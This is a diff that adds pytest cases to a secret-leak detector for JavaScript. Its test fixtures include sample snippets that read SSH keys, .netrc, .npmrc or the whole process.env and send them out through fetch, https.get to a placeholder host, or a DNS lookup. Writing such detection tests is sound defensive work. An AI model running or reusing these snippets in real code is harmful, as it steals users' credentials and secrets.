@@ -127,3 +127,39 @@ def test_a_secret_that_stays_here_is_none_that_is_sent(script: str) -> None:
 def test_what_is_followed_costs_no_more_than_its_length(piece: str) -> None:
     """A pipe of many parts would be read as often as it has parts if each looked at all after it."""
     shell_leaks(piece * (60_000 // len(piece)))
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        "const { MG_TO } = process.env;\nfetch(u, {method: 'POST', body: JSON.stringify({to: MG_TO})});",
+        "const env = process.env;\nfetch(u, {method: 'POST', body: env.MG_TO});",
+        "const cfg = {...process.env};\nfetch(`https://${cfg.API_HOST}/x`);",
+        "const { ZONE } = process.env;\nfetch(`https://api.example.com/zones/${ZONE}/purge`);",
+    ],
+)
+def test_one_variable_by_its_name_is_not_the_whole_environment(program: str) -> None:
+    assert script_leaks(program) == ()
+
+
+@pytest.mark.parametrize(
+    ("program", "kind"),
+    [
+        ("const e = process.env;\nfetch(u, {method: 'POST', body: JSON.stringify(e)});", Secret.ENVIRONMENT),
+        (
+            "const k: string = fs.readFileSync(h + '/.ssh/id_rsa', 'utf8');\nfetch(u, {body: k});",
+            Secret.CREDENTIALS,
+        ),
+        (
+            "let k: Buffer | string = fs.readFileSync('/root/.netrc');\nfetch(u, {body: k});",
+            Secret.CREDENTIALS,
+        ),
+        ("const d = fs.readFileSync(h + '/.npmrc');\nhttps.get('https://x/?d=' + d);", Secret.CREDENTIALS),
+        (
+            "const d = fs.readFileSync(h + '/.npmrc');\ndns.lookup(d + '.x.example.invalid');",
+            Secret.CREDENTIALS,
+        ),
+    ],
+)
+def test_types_and_other_ways_out_hide_no_secret(program: str, kind: Secret) -> None:
+    assert [leak.secret for leak in script_leaks(program)] == [kind]
